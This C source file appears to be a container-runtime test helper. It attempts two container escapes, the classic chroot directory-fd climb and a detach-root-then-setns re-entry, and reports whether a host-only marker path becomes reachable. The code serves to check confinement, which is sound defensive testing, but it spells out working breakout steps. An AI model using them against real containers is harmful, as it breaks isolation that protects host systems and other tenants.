/* SPDX-License-Identifier: Apache-2.0 */
/*
 * chroot-escape MODE MARKER: tries to leave the container's root from inside
 * it, then checks whether MARKER (a path that exists only on the host) is
 * reachable.  Prints "ESCAPED" (exit 0) or "CONFINED: <reason>" (exit 1);
 * exit 2 if the attempt could not be made at all.
 *
 *   climb  the classic chroot escape, needs CAP_SYS_CHROOT: keep a directory
 *          fd of the current root, chroot into a subdirectory, fchdir back
 *          out of the new root, climb with ".." as far as the kernel lets
 *          the walk go, and chroot there.
 *   setns  needs CAP_SYS_ADMIN and CAP_SYS_CHROOT: detach the mount on "/"
 *          and re-enter the own mount namespace, whose root is then
 *          whatever lies under the container's root mount.
 *
 * Built static: it runs inside a busybox container.
 */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static int verdict(const char *marker)
{
    if (access(marker, F_OK) == 0) {
        printf("ESCAPED\n");
        return 0;
    }
    printf("CONFINED: %s: %s\n", marker, strerror(errno));
    return 1;
}

static int climb(const char *marker)
{
    int fd = open("/", O_RDONLY | O_DIRECTORY);
    if (fd < 0) {
        perror("open /");
        return 2;
    }
    const char *sub = "/.chroot-escape";
    if (mkdir(sub, 0700) < 0 && errno != EEXIST) {
        perror("mkdir");
        return 2;
    }
    if (chroot(sub) < 0) {
        perror("chroot into a subdirectory");
        return 2;
    }
    /* the cwd is now outside the root: ".." is no longer clamped at it */
    if (fchdir(fd) < 0) {
        perror("fchdir");
        return 2;
    }
    for (int i = 0; i < 1024; i++)
        if (chdir("..") < 0)
            break;
    if (chroot(".") < 0) {
        perror("chroot .");
        return 2;
    }
    return verdict(marker);
}

static int reenter(const char *marker)
{
    int ns = open("/proc/self/ns/mnt", O_RDONLY);
    if (ns < 0) {
        perror("open /proc/self/ns/mnt");
        return 2;
    }
    if (umount2("/", MNT_DETACH) < 0)
        printf("umount /: %s\n", strerror(errno));
    if (setns(ns, CLONE_NEWNS) < 0) {
        printf("CONFINED: setns: %s\n", strerror(errno));
        return 1;
    }
    return verdict(marker);
}

int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "usage: %s climb|setns MARKER\n", argv[0]);
        return 2;
    }
    if (strcmp(argv[1], "climb") == 0)
        return climb(argv[2]);
    if (strcmp(argv[1], "setns") == 0)
        return reenter(argv[2]);
    fprintf(stderr, "unknown mode %s\n", argv[1]);
    return 2;
}
